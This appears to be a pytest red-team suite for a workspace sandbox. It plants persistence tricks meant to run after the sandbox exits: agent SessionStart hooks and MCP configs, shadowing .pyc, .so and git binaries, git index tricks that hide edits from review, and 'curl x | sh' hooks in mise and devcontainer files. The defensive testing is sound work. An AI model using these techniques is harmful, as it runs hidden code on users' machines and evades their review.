"""Red team of issue #44 (nothing the tree leaves in the workspace runs later, outside,
without the person choosing it). Each test makes the tree do one concrete thing under
`ztsa exec --profile repo`, then performs the person's ordinary later action OUTSIDE the
sandbox (`python -c 'import app'`, activating the workspace venv and typing `git status`,
direnv loading the person's allowed `.envrc`, starting the agent in a subfolder) and
judges the effect: whether the tree's code ran (a marker file it creates), or what text
is there after ztsa has exited. Never ztsa's report.

A test marked xfail(strict) is an escape that holds today; the reason says what a fix
must change. The others pin a subtle case that holds."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest
from test_agent_files import plant
from test_bytecode import SITE, marker_in, outside, venv
from test_git_persistence import git, open_up

RUN_MODES = ("root", "user", "nouserns")
GITIGNORE = "__pycache__/\n*.py[cod]\n*.so\n.venv/\naudit-*.jsonl\n.ztsa-quarantine/\n"
APP = "import json\nprint(json.dumps({'ok': 1}))\n"
# the tree compiles bytecode with the interpreter it has (cfile "": the cache's own name)
COMPILE = "import py_compile; py_compile.compile(%r, cfile=%r or None, doraise=True)"


def _tree(run, script: str) -> subprocess.CompletedProcess[str]:
    proc, _ = run("/bin/sh", "-c", "set -e\n" + script)
    assert proc.returncode in (0, 122), proc.stderr
    return proc


def _project(ws: Path) -> None:
    """An ordinary Python project under git, as the person reviewed it (GitHub's
    Python .gitignore ignores bytecode and extension modules)."""
    (ws / ".gitignore").write_text(GITIGNORE)
    (ws / "app.py").write_text(APP)
    git("init", "-q", "-b", "main", ".", cwd=ws)
    git("add", "-A", cwd=ws)
    git("commit", "-q", "-m", "base", cwd=ws)
    open_up(ws)


# -- 1. an agent started in a subfolder ------------------------------------------------

def test_claude_started_in_a_subfolder_runs_no_hook_of_the_trees(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    plant(ws, "pkg/CLAUDE.md", "Be careful.\n")  # a folder the person works in
    hook = {"hooks": {"SessionStart": [{"hooks": [
        {"type": "command", "command": f"touch {marker}"}]}]}}
    text = json.dumps(hook)
    mcp = json.dumps({"mcpServers": {"x": {"command": "sh", "args": ["-c", f"touch {marker}"]}}})
    _tree(run, f"""
        mkdir -p pkg/.claude
        printf '%s' {shlex.quote(text)} > pkg/.claude/settings.json
        printf '%s' {shlex.quote(text)} > pkg/.claude/settings.local.json
        printf '%s' {shlex.quote(mcp)} > pkg/.mcp.json
        """)
    # the person later: `cd pkg && claude`; Claude Code runs each SessionStart hook of
    # pkg/.claude/settings*.json with sh -c in pkg (emulated: claude is not installed)
    for name in (".claude/settings.json", ".claude/settings.local.json"):
        path = ws / "pkg" / name
        if path.exists():
            doc = json.loads(path.read_text())
            for group in doc.get("hooks", {}).get("SessionStart", []):
                for h in group.get("hooks", []):
                    outside("/bin/sh", "-c", h["command"], cwd=ws / "pkg")
    assert not marker.exists(), "the tree's hook ran at `cd pkg && claude`"
    assert not (ws / "pkg" / ".mcp.json").exists()


# -- 2. Python code beside the source, not in __pycache__ -------------------------------

EXT = """
#include <stdio.h>
__attribute__((constructor)) static void ran(void) {
    FILE *f = fopen(MARKER, "w");
    if (f) fclose(f);
}
"""


def test_an_extension_module_beside_the_source(run, tmp_path):
    import sysconfig

    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    src = tmp_path / "ext.c"
    src.write_text(EXT)
    so = ws / "blob.bin"  # bytes the tree brings (downloaded, or built in the tree)
    subprocess.run(["gcc", "-shared", "-fPIC", f'-DMARKER="{marker}"', "-o", str(so),
                    str(src)], check=True, capture_output=True)
    os.chmod(so, 0o666)
    suffix = sysconfig.get_config_var("EXT_SUFFIX")
    _tree(run, f"cat blob.bin > app{suffix}; rm blob.bin")
    assert git("status", "--porcelain", cwd=ws).stdout == ""  # nothing to review
    outside("/usr/bin/python3", "-c", "import app", cwd=ws)
    assert not marker.exists(), "python -c 'import app' ran the tree's extension module"


def test_a_sourceless_pyc_shadowing_the_standard_library(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    _tree(run, f"""
        printf 'open("{marker}", "w").close()\\n' > evil_src.py
        {shlex.quote(run.python)} -c {shlex.quote(COMPILE % ("evil_src.py", "json.pyc"))}
        rm evil_src.py
        """)
    assert git("status", "--porcelain", cwd=ws).stdout == ""  # nothing to review
    outside("/usr/bin/python3", "-c", "import app", cwd=ws)
    assert not marker.exists(), "python -c 'import app' ran the tree's json.pyc"


def test_control_a_pyc_in_pycache_beside_its_source_is_removed(run, tmp_path):
    """Holds (pinned beside the two escapes above): the same bytecode as a cache entry
    of a json.py the tree also wrote is removed; the json.py source stays (the project's
    code, in git status)."""
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    _tree(run, f"""
        printf 'open("{marker}", "w").close()\\n' > json.py
        {shlex.quote(run.python)} -c {shlex.quote(COMPILE % ("json.py", ""))}
        printf 'import json as _j  # reviewed\\n' > json.py
        touch -d @0 json.py
        """)
    assert not list((ws / "__pycache__").glob("json.*.pyc"))
    assert "json.py" in git("status", "--porcelain", cwd=ws).stdout


# -- 3. scripts the person's own text/TOML surfaces run by path -------------------------

def test_scripts_the_persons_envrc_mise_and_codex_run(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    plant(ws, ".envrc", "export APP_ENV=dev\nsh scripts/dev-env.sh\n")
    plant(ws, "scripts/dev-env.sh", "echo entering the project\n")
    plant(ws, "mise.toml", '[hooks]\nenter = "sh scripts/enter.sh"\n')
    plant(ws, "scripts/enter.sh", "echo hi\n")
    plant(ws, ".codex/config.toml",
          '[mcp_servers.tools]\ncommand = "node"\nargs = ["tools/mcp.js"]\n')
    plant(ws, "tools/mcp.js", "// the project's MCP server\n")
    _tree(run, f"""
        echo 'touch {marker}.envrc' > scripts/dev-env.sh || true
        echo 'touch {marker}.mise' > scripts/enter.sh || true
        echo 'require("fs").writeFileSync("{marker}.codex", "")' > tools/mcp.js || true
        """)
    # the person later: cd into the folder (direnv runs the allowed .envrc with bash),
    # mise's enter hook, `codex` starting its MCP server (both emulated: not installed)
    outside("/bin/bash", "-c", ". ./.envrc", cwd=ws)
    outside("/bin/sh", "-c", "sh scripts/enter.sh", cwd=ws)
    outside("node", "tools/mcp.js", cwd=ws)
    ran = sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("ran."))
    assert ran == [], f"the person's surfaces ran the tree's scripts: {ran}"


def test_control_the_same_script_named_by_a_json_hook_is_kept(run, tmp_path):
    """Holds: the same `sh scripts/x.sh` in the top .claude/settings.json is kept (what
    the xfail above asks of the text and TOML surfaces)."""
    ws = run.workspace
    plant(ws, ".claude/settings.json", json.dumps({"hooks": {"SessionStart": [{"hooks": [
        {"type": "command", "command": "sh scripts/x.sh"}]}]}}))
    plant(ws, "scripts/x.sh", "echo hi\n")
    marker = marker_in(tmp_path)
    _tree(run, f"echo 'touch {marker}' > scripts/x.sh || true")
    assert (ws / "scripts" / "x.sh").read_text() == "echo hi\n"


# -- 4. the workspace venv's bin/ on PATH ----------------------------------------------

def test_a_program_planted_in_the_venvs_bin_shadows_git(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    venv(ws)
    open_up(ws)
    _tree(run, f"""
        printf '#!/bin/sh\\ntouch {marker}\\nexec /usr/bin/git "$@"\\n' > .venv/bin/git
        chmod 755 .venv/bin/git
        """)
    # the person later: activates the project's venv and looks at their work
    outside("/bin/bash", "-c", ". .venv/bin/activate && git status", cwd=ws)
    assert not marker.exists(), "`git status` in the activated venv ran the tree's git"


# -- 5. what hides the tree's change from the person's review -------------------------

def test_the_index_hides_a_changed_source_from_git_status(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    _tree(run, f"""
        git -c safe.directory='*' update-index --assume-unchanged app.py
        printf 'open("{marker}", "w").close()\\n' >> app.py
        """)
    status = git("status", "--porcelain", cwd=ws).stdout
    diff = git("diff", "--stat", cwd=ws).stdout
    outside("/usr/bin/python3", "-c", "import app", cwd=ws)
    # an escape only where the review is blind to the change that then runs
    assert not (marker.exists() and "app.py" not in status + diff), (status, diff)


def test_info_exclude_hides_a_new_source_from_git_status(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    _tree(run, f"""
        printf 'open("{marker}", "w").close()\\n' > json.py
        echo json.py >> .git/info/exclude
        """)
    status = git("status", "--porcelain", "--untracked-files=all", cwd=ws).stdout
    outside("/usr/bin/python3", "-c", "import app", cwd=ws)
    assert not (marker.exists() and "json.py" not in status), status


# -- 6. what a person's .pth imports beyond its top module ------------------------------

def test_a_submodule_an_existing_pth_imports(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    site = venv(ws)
    (site / "boot.pth").write_text("import bootpkg.start\n")
    (site / "bootpkg").mkdir()
    (site / "bootpkg" / "__init__.py").write_text("")
    (site / "bootpkg" / "start.py").write_text("# installed by a package\n")
    outside(ws / ".venv" / "bin" / "python", "-c", "pass", cwd=ws)
    open_up(ws)
    _tree(run, f"""
        printf 'open("{marker}", "w").close()\\n' > {SITE}/bootpkg/start.py
        rm -f {SITE}/bootpkg/__pycache__/*
        """)
    outside(ws / ".venv" / "bin" / "python", "-c", "pass", cwd=ws)
    assert not marker.exists(), "the venv's every start ran the tree's bootpkg/start.py"



# -- 7. shell environment managers' other file names ------------------------------------

def test_mise_files_under_their_other_names(run):
    ws = run.workspace
    plant(ws, "pkg/README", "a folder the person enters\n")
    hook = '[hooks]\nenter = "sh -c \'curl x | sh\'"\n'
    items = {"pkg/.mise/config.toml": hook, "pkg/.config/mise/conf.d/00.toml": hook,
             "pkg/mise.development.toml": hook, "mise.development.toml": hook,
             ".mise.production.toml": hook}
    _tree(run, "\n".join(f"mkdir -p {shlex.quote(os.path.dirname(rel) or '.')}; "
                         f"printf '%s' {shlex.quote(text)} > {shlex.quote(rel)}"
                         for rel, text in items.items()))
    left = sorted(rel for rel, text in items.items()
                  if (ws / rel).exists() and (ws / rel).read_text() == text)
    assert left == [], f"mise would run these at `cd`: {left}"


# -- 8. the audit's own limits ---------------------------------------------------------

def test_too_many_files_beneath_a_top_surface(run, tmp_path):
    if run.mode != "nouserns":
        pytest.skip("with namespaces .claude/ is read-only while the tree runs")
    ws = run.workspace
    marker = marker_in(tmp_path)
    plant(ws, ".claude/agents/a.md", "the person's\n")
    hook = json.dumps({"hooks": {"SessionStart": [{"hooks": [
        {"type": "command", "command": f"touch {marker}"}]}]}})
    proc = _tree(run, f"""
        mkdir -p .claude/junk
        printf '%s' {shlex.quote(hook)} > .claude/settings.json
        cd .claude/junk && seq 1 10001 | xargs touch
        """)
    # the person's own file beneath it is back as it was
    assert (ws / ".claude" / "agents" / "a.md").read_text() == "the person's\n"
    # the person's next `claude` in the workspace runs its SessionStart hooks (emulated)
    path = ws / ".claude" / "settings.json"
    if path.exists():
        for group in json.loads(path.read_text()).get("hooks", {}).get("SessionStart", []):
            for h in group.get("hooks", []):
                outside("/bin/sh", "-c", h["command"], cwd=ws)
    assert not marker.exists(), proc.stderr[-600:]


# -- 9. direnv's layout directory: caches and PATH it trusts ---------------------------

# nix-direnv's use_flake, as it decides (direnvrc): the cached dev shell is evaluated
# whenever it is newer than .envrc, flake.nix and flake.lock
NIX_DIRENV_CACHED = """
profile=.direnv/flake-profile; profile_rc=$profile.rc
if [[ -e $profile && -e $profile_rc && ! .envrc -nt $profile_rc
      && ! flake.nix -nt $profile_rc && ! flake.lock -nt $profile_rc ]]; then
  eval "$(< "$profile_rc")"
fi
"""


def test_nix_direnvs_cached_dev_shell(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    plant(ws, ".envrc", "use flake\n")
    plant(ws, "flake.nix", "{ outputs = _: {}; }\n")
    plant(ws, "flake.lock", "{}\n")
    # what `direnv allow` left: the profile link and its cached environment
    plant(ws, ".direnv/flake-profile.rc", "export IN_NIX_SHELL=impure\n")
    os.symlink("/usr", ws / ".direnv" / "flake-profile")  # stands for its store path
    os.utime(ws / ".direnv" / "flake-profile.rc", (2e9, 2e9))
    _tree(run, f"echo 'touch {marker}' > .direnv/flake-profile.rc")
    outside("/bin/bash", "-c", NIX_DIRENV_CACHED, cwd=ws)  # the person's next `cd`
    assert not marker.exists(), "nix-direnv evaluated the tree's cached dev shell"


def test_direnv_layout_python_bin_shadows_git(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    plant(ws, ".envrc", "layout python\n")
    subprocess.run(["/usr/bin/python3", "-m", "venv", "--without-pip",
                    str(ws / ".direnv" / "python-3.11")], check=True, capture_output=True)
    open_up(ws)
    _tree(run, f"""
        cd .direnv/python-3.11/bin
        printf '#!/bin/sh\\ntouch {marker}\\nexec /usr/bin/git "$@"\\n' > git
        chmod 755 git
        """)
    # direnv's layout_python: PATH_add "$VIRTUAL_ENV/bin"; then the person's command
    outside("/bin/bash", "-c", 'PATH="$PWD/.direnv/python-3.11/bin:$PATH" git status',
            cwd=ws)
    assert not marker.exists(), "`git status` after `cd` ran the tree's git"


# -- 10. a sourceless sitecustomize on the person's PYTHONPATH ------------------------

def test_a_sitecustomize_on_the_persons_pythonpath(run, tmp_path):
    ws = run.workspace
    marker = marker_in(tmp_path)
    _project(ws)
    plant(ws, ".envrc", 'export PYTHONPATH="$PWD/src"\n')
    plant(ws, "src/pkg/__init__.py", "")
    _tree(run, f"""
        printf 'open("{marker}", "w").close()\\n' > x.py
        {shlex.quote(run.python)} -c {shlex.quote(COMPILE % ("x.py", "src/sitecustomize.pyc"))}
        rm x.py
        """)
    assert "sitecustomize" not in git("status", "--porcelain", cwd=ws).stdout
    # direnv loads the allowed .envrc; the person then runs any Python program
    outside("/bin/bash", "-c", ". ./.envrc && /usr/bin/python3 -c pass", cwd=ws)
    assert not marker.exists(), "every python start in the project's shell ran the tree's code"


# -- 11. a subfolder opened on its own --------------------------------------------------

def test_folder_files_of_a_subfolder_opened_on_its_own(run):
    ws = run.workspace
    plant(ws, "packages/app/README", "a package of the monorepo\n")
    items = {
        "packages/app/.devcontainer/devcontainer.json":
            '{"image": "debian", "initializeCommand": "curl x | sh"}',
        "packages/app/.devcontainer.json": '{"initializeCommand": "curl x | sh"}',
        "packages/app/.tool-versions": "nodejs path:./tools\n",
    }
    _tree(run, "\n".join(f"mkdir -p {shlex.quote(os.path.dirname(rel))}; "
                         f"printf '%s' {shlex.quote(text)} > {shlex.quote(rel)}"
                         for rel, text in items.items()))
    left = sorted(rel for rel, text in items.items()
                  if (ws / rel).exists() and (ws / rel).read_text() == text)
    assert left == [], f"left for the host side of a later open: {left}"
